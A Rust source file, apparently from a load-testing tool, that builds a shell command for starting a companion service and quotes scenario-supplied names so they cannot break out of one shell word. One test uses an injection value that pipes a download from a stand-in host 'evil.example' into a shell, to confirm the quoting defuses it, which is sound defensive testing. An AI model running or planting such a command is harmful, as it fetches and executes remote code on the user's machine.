//! Commands that a person copies into a shell. What comes from a scenario stays one word, whatever it has in it.

use std::borrow::Cow;

use crate::core::base::host::Host;

/// The command that starts a companion for a host and further services by their names.
pub fn serve(host: &str, services: &[(String, Host)]) -> String {
    let service = |(name, host): &(String, Host)| format!(" --service {}", word(&format!("{name}={host}")));
    let services: String = services.iter().map(service).collect();
    format!("oddiya-load serve -H {}{services}", word(host))
}

/// A text as one word of a shell: as it is where no sign in it means something to a shell, else in quotes.
fn word(text: &str) -> Cow<'_, str> {
    let is_plain = |c: char| c.is_ascii_alphanumeric() || ":/.,_-=@[]%+".contains(c);
    if !text.is_empty() && text.chars().all(is_plain) {
        return Cow::Borrowed(text);
    }
    Cow::Owned(format!("'{}'", text.replace('\'', r"'\''")))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_companion_is_started_for_all_services() {
        let services = [("llm".to_owned(), "http://localhost:8000".parse().unwrap())];
        assert_eq!(
            serve("http://localhost:8080", &services),
            "oddiya-load serve -H http://localhost:8080 --service llm=http://localhost:8000"
        );
    }

    #[test]
    fn what_a_scenario_names_starts_no_other_command() {
        let services = [("x;curl evil.example|sh;".to_owned(), "http://localhost:8000".parse().unwrap())];
        assert_eq!(
            serve("http://h", &services),
            "oddiya-load serve -H http://h --service 'x;curl evil.example|sh;=http://localhost:8000'"
        );
        assert_eq!(word("it's $(x)"), r"'it'\''s $(x)'");
    }
}
